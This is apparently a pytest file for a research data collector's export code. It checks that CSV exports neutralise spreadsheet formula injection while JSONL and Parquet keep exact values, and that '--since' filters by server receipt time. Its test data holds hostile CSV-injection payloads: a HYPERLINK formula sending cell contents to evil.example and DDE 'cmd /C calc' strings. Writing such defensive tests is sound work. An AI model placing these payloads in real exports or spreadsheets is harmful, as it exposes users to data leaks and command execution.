"""Exports a researcher can open safely: formulas neutralised in CSV (cells and column names, the
CLI and the dashboard zip) while JSON Lines and Parquet keep exact values; ``--since`` by the
server's receipt time, so an upload that waited in a browser queue is not left out."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from collector.cli import main
from collector.export import DirectorySink, export_bucket
from collector.export.columns import Column, Table
from collector.export.writers import CsvWriter
from collector.keys import KeyLayout
from collector.settings import Settings
from collector.storage import ObjectStore
from tests.support.collector_process import settings_environment
from tests.support.factories import make_status, put_status

FORMULAS = {
    "=evilkey": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "q_plus": "+cmd|' /C calc'!A0",
    "q_minus": "-2+3+cmd|' /C calc'!A0",
    "q_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "q_tab": "\t=1+1",
    "q_cr": "\r=1+1",
    "q_fullwidth": "\uff1d1+1",
    "q_fullwidth_plus": "\uff0bcmd",
    "q_fullwidth_at": "\uff20SUM(1)",
    "q_fullwidth_minus": "\uff0d1",
    "q_quoted": "'=already quoted",
}
PLAIN = {"q_number": -5, "q_text": "calm", "q_negative_text": "-3.5"}
UNDO = re.compile("^'(?='*[=+\\-@\\t\\r\uff1d\uff0b\uff0d\uff20])")


def seed(store: ObjectStore, layout: KeyLayout) -> None:
    put_status(
        store,
        layout,
        make_status("SYNTH1", responses={**FORMULAS, **PLAIN}, selectedVolcano="=1+1", weekStartDate="@x"),
    )


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check_responses_csv(text: str) -> None:
    answers = {row["question"]: row["value"] for row in csv_rows(text)}
    for question, value in FORMULAS.items():
        shown_question = "'" + question if question.startswith("=") else question
        assert answers[shown_question] == "'" + value, question
        assert UNDO.sub("", answers[shown_question]) == value  # what the dictionary says undoes it
    assert (
        answers["q_number"] == "-5" and answers["q_text"] == "calm" and answers["q_negative_text"] == "-3.5"
    )
    for cell in (cell for row in csv_rows(text) for cell in row.values()):
        assert not cell or (cell[0] not in "=+@\t\r\uff1d\uff0b\uff20" and not re.match(r"-[^0-9]", cell))


def test_csv_cells_are_neutralised_and_jsonl_parquet_keep_exact_values(
    store: ObjectStore, layout: KeyLayout, tmp_path: Path
) -> None:
    seed(store, layout)
    for fmt in ("csv", "jsonl", "parquet"):
        export_bucket(store, layout, DirectorySink(tmp_path / fmt), fmt=fmt)  # type: ignore[arg-type]
    check_responses_csv((tmp_path / "csv" / "responses.csv").read_bytes().decode("utf-8"))
    participant = csv_rows((tmp_path / "csv" / "participants.csv").read_bytes().decode("utf-8"))[0]
    assert participant["selected_volcano"] == "'=1+1" and participant["week_start_date"] == "'@x"
    exact = {**FORMULAS, **{k: json.dumps(v) if not isinstance(v, str) else v for k, v in PLAIN.items()}}
    lines = (tmp_path / "jsonl" / "responses.jsonl").read_text("utf-8").splitlines()
    assert {json.loads(line)["question"]: json.loads(line)["value"] for line in lines} == exact
    table = pq.read_table(tmp_path / "parquet" / "responses.parquet").to_pylist()
    assert {row["question"]: row["value"] for row in table} == exact
    readme = (tmp_path / "csv" / "README.md").read_text("utf-8")
    assert "Spreadsheet safety" in readme and "OWASP" in readme
    assert "Spreadsheet safety" not in (tmp_path / "jsonl" / "README.md").read_text("utf-8")


def test_csv_column_names_are_neutralised(tmp_path: Path) -> None:
    table = Table("t", "hostile names", (Column("=evil", "string", "x"), Column("ok", "string", "y")))
    out = io.BytesIO()
    writer = CsvWriter(table, out)
    writer.write({"=evil": "@a", "ok": "b"})
    writer.close()
    assert out.getvalue().decode("utf-8").splitlines() == ["'=evil,ok", "'@a,b"]


def test_cli_and_dashboard_csv_are_neutralised(
    settings: Settings, store: ObjectStore, layout: KeyLayout, client: TestClient, tmp_path: Path
) -> None:
    seed(store, layout)
    result = CliRunner().invoke(
        main,
        ["export", "--out", str(tmp_path / "cli"), "--format", "csv"],
        env=settings_environment(settings),
    )
    assert result.exit_code == 0, result.output
    check_responses_csv((tmp_path / "cli" / "responses.csv").read_bytes().decode("utf-8"))
    assert client.post("/admin/login", data={"password": "test-admin-password-1"}).status_code == 200
    answer = client.get("/admin/export.zip?format=csv")
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        check_responses_csv(archive.read("export/responses.csv").decode("utf-8"))


@pytest.mark.parametrize("backend", ["local"], indirect=True)
def test_since_keeps_a_late_arrival_by_server_receipt_time(
    settings: Settings, client: TestClient, tmp_path: Path
) -> None:
    # A browser queued this upload offline for weeks: its own timestamp is old, it arrives now.
    queued = (datetime.now(UTC) - timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    upload = {
        "participantId": "SYNTHLATE",
        "uploadType": "submission",
        "timestamp": queued,
        "submissionData": {"synthetic": True},
    }
    assert client.post("/api/upload-user-data", json=upload).status_code == 200
    today = datetime.now(UTC).strftime("%Y-%m-%d")
    out = tmp_path / "since"
    result = CliRunner().invoke(
        main,
        ["export", "--out", str(out), "--since", today, "--format", "csv"],
        env=settings_environment(settings),
    )
    assert result.exit_code == 0, result.output
    submissions = csv_rows((out / "submissions.csv").read_bytes().decode("utf-8"))
    assert [row["participant_id"] for row in submissions] == ["SYNTHLATE"]
    assert [
        row["participant_id"] for row in csv_rows((out / "participants.csv").read_bytes().decode("utf-8"))
    ] == ["SYNTHLATE"]
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).strftime("%Y-%m-%d")
    later = CliRunner().invoke(
        main,
        ["export", "--out", str(tmp_path / "later"), "--since", tomorrow],
        env=settings_environment(settings),
    )
    assert later.exit_code == 0
    assert csv_rows((tmp_path / "later" / "submissions.csv").read_bytes().decode("utf-8")) == []


TRIAL = {
    "participantId": "SYNTHTRIAL",
    "uploadType": "trial",
    "sessionId": "-run",  # a legal session id that Excel would read as "minus cell run"
    "trialIndex": 0,
    "trialData": {
        "=evilkey": '=HYPERLINK("https://evil.example","x")',
        "rt": "+cmd|' /C calc'!A0",
        "ok": "calm",
    },
}


@pytest.mark.parametrize("backend", ["local"], indirect=True)
def test_trial_tables_are_neutralised_in_csv_and_exact_in_jsonl(
    store: ObjectStore, layout: KeyLayout, client: TestClient, tmp_path: Path
) -> None:
    assert client.post("/api/upload-user-data", json=TRIAL).status_code == 200
    for fmt in ("csv", "jsonl"):
        export_bucket(store, layout, DirectorySink(tmp_path / fmt), fmt=fmt)  # type: ignore[arg-type]
    text = (tmp_path / "csv" / "trials.csv").read_bytes().decode("utf-8")
    assert "'=evilkey" in text.splitlines()[0].split(",")  # the column name from a trialData key
    [row] = csv_rows(text)
    assert row["'=evilkey"] == "'" + TRIAL["trialData"]["=evilkey"]
    assert row["rt"] == "'" + TRIAL["trialData"]["rt"] and row["ok"] == "calm"
    assert row["session_id"] == "'-run"
    [session] = csv_rows((tmp_path / "csv" / "trial_sessions.csv").read_bytes().decode("utf-8"))
    assert session["session_id"] == "'-run"
    [line] = (tmp_path / "jsonl" / "trials.jsonl").read_text("utf-8").splitlines()
    exact = json.loads(line)
    assert exact["session_id"] == "-run"
    assert {name: exact[name] for name in TRIAL["trialData"]} == TRIAL["trialData"]


@pytest.mark.parametrize("backend", ["local"], indirect=True)
def test_since_keeps_late_trials_by_server_receipt_time(
    store: ObjectStore, layout: KeyLayout, client: TestClient, tmp_path: Path
) -> None:
    # Queued offline for a month: an old client timestamp, received now.
    queued = (datetime.now(UTC) - timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    late = {**TRIAL, "sessionId": "late", "timestamp": queued, "trialData": {"rt": 1}}
    assert client.post("/api/upload-user-data", json=late).status_code == 200
    # A trial file with no serverReceivedAt (placed by hand): its stored time decides.
    bare = {"participantId": "SYNTHTRIAL", "sessionId": "bare", "trialIndex": 0, "trialData": {"rt": 2}}
    store.put(layout.trial_key("SYNTHTRIAL", "bare", 0), json.dumps(bare).encode("utf-8"))
    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    kept = export_bucket(store, layout, DirectorySink(tmp_path / "today"), since=today)
    assert (kept.rows["trials"], kept.rows["trial_sessions"]) == (2, 2)
    tomorrow = today + timedelta(days=1)
    none = export_bucket(store, layout, DirectorySink(tmp_path / "tomorrow"), since=tomorrow)
    assert (none.rows["trials"], none.rows["trial_sessions"]) == (0, 0)
